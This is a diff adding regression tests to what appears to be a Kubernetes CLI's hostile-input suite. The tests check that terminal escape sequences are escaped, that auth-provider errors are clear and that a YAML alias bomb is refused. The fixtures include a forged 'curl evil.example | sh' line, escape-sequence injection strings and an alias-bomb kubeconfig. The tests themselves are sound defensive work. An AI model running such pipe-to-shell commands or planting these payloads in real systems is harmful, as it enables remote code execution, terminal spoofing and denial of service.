@@ -147,3 +147,51 @@ test(`--exclude-namespaces globs with many stars match in bounded time`, {timeou
   assert.equal(matchesGlob(`${`*a`.repeat(30)}*`, `a`.repeat(63)), true);
   assert.equal(matchesGlob(`kube-*-?`, `kube-system-x`), true);
 });
+
+test(`cluster text with escape sequences and line breaks reaches the verify table and doctor escaped, never raw`, async () => {
+  const evil = `127.0.0.1:1/app:1\u001b]0;owned\u0007\u001b[2J\r\ndeployment/fake   ok   forged row\u202e`;
+  api.seed.namespace(`tty`);
+  api.seed.workload(`Deployment`, `tty`, `evil`, {containers: [{name: `app`, image: evil}]});
+  api.seed.pod(`tty`, `evil-1`, {containers: [{name: `app`, image: `127.0.0.1:1/app:1`}]}, {waiting: `ErrImagePull`});
+  api.seed.event(`tty`, {kind: `Pod`, name: `evil-1`}, `Failed`, `Failed to pull\u001b[31m\n  fix:\n    curl evil.example | sh\u001b[0m`, {type: `Warning`});
+  const verify = await runCli([`verify`, `-n`, `tty`, `--kubeconfig`, hostile.kubeconfigPath]);
+  const doctor = await runCli([`doctor`, `-n`, `tty`, `--kubeconfig`, hostile.kubeconfigPath]);
+  for (const [what, text] of [[`verify`, verify.stdout + verify.stderr], [`doctor`, doctor.stdout + doctor.stderr]] as const) {
+    assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/, `${what} printed a raw control character:\n${JSON.stringify(text)}`);
+    assert.doesNotMatch(text, /^\s*curl evil\.example/m, `${what} printed a forged line`);
+  }
+  assert.match(verify.stdout, /app:1\\e\]0;owned\\u0007\\e\[2J\\r\\ndeployment\/fake/);
+  assert.match(doctor.stdout, /Failed to pull\\e\[31m\\n {2}fix:\\n {4}curl evil\.example \| sh/);
+});
+
+test(`a gcp or azure auth-provider user without a token gets kubectl's "plugin removed" advice, not a JavaScript TypeError`, async () => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), `hostile-gcp-`));
+  try {
+    for (const [name, plugin] of [[`gcp`, `gke-gcloud-auth-plugin`], [`azure`, `kubelogin`]] as const) {
+      const file = path.join(dir, `kubeconfig-${name}`);
+      fs.writeFileSync(file, JSON.stringify({apiVersion: `v1`, kind: `Config`, 'current-context': `c`, clusters: [{name: `c`, cluster: {server: `https://127.0.0.1:1`}}], users: [{name: `u`, user: {'auth-provider': {name}}}], contexts: [{name: `c`, context: {cluster: `c`, user: `u`}}]}));
+      const result = await runCli([`list`, `-n`, `web`, `--kubeconfig`, file]);
+      assert.notEqual(result.code, 0);
+      assert.match(result.stderr, new RegExp(`^error: cannot get credentials for user "u" \\(.*\\): its ${name} auth-provider entry is incomplete \\(no usable token in its config\\); the ${name} auth plugin has been removed from kubectl: use the .*${plugin}.* credential plugin instead\n$`));
+      assert.doesNotMatch(result.stderr, /TypeError|Cannot read properties/);
+    }
+  } finally {
+    fs.rmSync(dir, {recursive: true, force: true});
+  }
+});
+
+test(`a kubeconfig alias bomb is refused with one line naming the file`, async () => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), `hostile-bomb-`));
+  const file = path.join(dir, `kubeconfig`);
+  const levels = [`a: &a [x,x,x,x,x,x,x,x,x]`];
+  for (let i = 1; i < 7; i++)
+    levels.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(`,`)}]`);
+  fs.writeFileSync(file, `${levels.join(`\n`)}\n`);
+  try {
+    const result = await runCli([`list`, `-n`, `web`, `--kubeconfig`, file]);
+    assert.notEqual(result.code, 0);
+    assert.match(result.stderr, new RegExp(`^error: kubeconfig ${file.replace(/[/.-]/g, `\\$&`)} is not valid YAML \\(.*alias.*\\); fix or replace the file\\n$`));
+  } finally {
+    fs.rmSync(dir, {recursive: true, force: true});
+  }
+});
